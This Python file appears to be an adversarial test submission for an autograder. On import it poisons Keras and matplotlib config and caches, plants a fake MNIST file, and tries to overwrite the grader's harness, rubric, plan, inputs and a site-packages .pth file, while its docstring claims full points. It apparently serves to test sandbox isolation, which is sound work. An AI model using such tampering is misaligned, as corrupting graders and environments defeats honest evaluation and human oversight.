"""Poisons caches and tries to tamper with everything around it, at import (so in every check): rewrites
~/.keras/keras.json (float16, another backend), plants a fake ~/.keras/datasets/mnist.npz, a
matplotlibrc and cache files, and tries to overwrite the submission, the grader's inputs, plan,
config and harness, the host's ~/.keras, the repository's rubric and a .pth in site-packages. All
functions are correct and must keep their points."""

import json as _json
import os as _os

_HOME = _os.path.expanduser("~")


def _try_write(path, text):
    try:
        _os.makedirs(_os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(text)
        return True
    except OSError:
        return False


def _poison():
    _try_write(_os.path.join(_HOME, ".keras", "keras.json"), _json.dumps(
        {"floatx": "float16", "epsilon": 1.0, "backend": "jax", "image_data_format": "channels_first"}))
    _try_write(_os.path.join(_HOME, ".keras", "datasets", "mnist.npz"), "not an npz")
    _try_write(_os.path.join(_HOME, ".matplotlib", "matplotlibrc"), "backend: module://evil_backend\n")
    _try_write(_os.path.join(_HOME, ".cache", "pip", "autograder_attack_marker_cache"), "poisoned\n")
    for path in ("/root/.keras/keras.json", "/root/.keras/datasets/mnist.npz", "/root/.cache/autograder_attack_marker_cache",
                 "/sandbox/submission/hello_mnist.py", "/sandbox/inbox/submission/hello_mnist.py",
                 "/sandbox/inbox/plan.json", "/sandbox/config/worker.json", "/sandbox/inputs/preprocess.npz",
                 "/sandbox/inputs/retrain.npz", "/sandbox/plan/plan.json", "/opt/grader/harness/probes.py",
                 "/work/main/autograder/graders/rubric.toml", "/work/main/autograder_attack_marker_poison",
                 "/work/main/.venv/lib/python3.11/site-packages/autograder_attack_marker_poison.pth"):
        if _try_write(path, "poisoned by a submission\n"):
            print("WROTE", path)


_poison()
